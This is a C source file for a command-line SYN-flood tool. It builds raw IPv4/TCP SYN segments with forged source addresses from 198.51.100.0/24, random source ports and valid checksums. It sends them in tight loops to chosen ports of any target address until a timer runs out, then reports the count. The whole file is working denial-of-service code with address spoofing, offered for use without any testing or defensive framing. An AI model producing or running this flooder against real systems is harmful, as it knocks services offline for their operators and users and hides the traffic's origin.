// Sends SYNs to ports of an IPv4 address, each from a source that it makes up, until a time is over; says how many it
// has sent. syn-flood ADDRESS FIRST_PORT PORTS MILLISECONDS
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <sys/socket.h>
#include <time.h>

#include "report.h"

struct segment {
    struct iphdr ip;
    struct tcphdr tcp;
};

static uint32_t sum(const void *bytes, size_t length) {
    const uint16_t *words = bytes;
    uint32_t total = 0;
    for (size_t i = 0; i < length / 2; i++) total += words[i];
    return total;
}

static uint16_t folded(uint32_t total) {
    while (total >> 16) total = (total & 0xffff) + (total >> 16);
    return (uint16_t)~total;
}

static int64_t milliseconds(void) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

static void fill(struct segment *segment, struct in_addr to, uint16_t port) {
    uint32_t source = 0xc6336400u | (uint32_t)(random() & 0xff); // 198.51.100.0/24: nobody's, by RFC 5737
    memset(segment, 0, sizeof *segment);
    segment->ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP};
    segment->ip.tot_len = htons(sizeof *segment);
    segment->ip.saddr = htonl(source);
    segment->ip.daddr = to.s_addr;
    segment->tcp.source = htons((uint16_t)(1024 + random() % 60000));
    segment->tcp.dest = htons(port);
    segment->tcp.seq = (uint32_t)random();
    segment->tcp.doff = 5;
    segment->tcp.syn = 1;
    segment->tcp.window = htons(64240);
    const uint32_t pseudo = sum(&segment->ip.saddr, 8) + htons(IPPROTO_TCP) + htons(sizeof segment->tcp);
    segment->tcp.check = folded(pseudo + sum(&segment->tcp, sizeof segment->tcp));
}

int main(int argc, char **argv) {
    struct in_addr to;
    if (argc != 5 || inet_pton(AF_INET, argv[1], &to) != 1) return 2;
    const int first = atoi(argv[2]), ports = atoi(argv[3]);
    const int64_t end = milliseconds() + atoi(argv[4]);
    const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) return 1;
    const struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr = to};
    long sent = 0;
    while (milliseconds() < end) {
        for (int i = 0; i < 64; i++) {
            struct segment segment;
            fill(&segment, to, (uint16_t)(first + random() % ports));
            if (sendto(fd, &segment, sizeof segment, 0, (const struct sockaddr *)&address, sizeof address) > 0) sent++;
        }
    }
    printf("sent: %ld\n", sent);
    return 0;
}
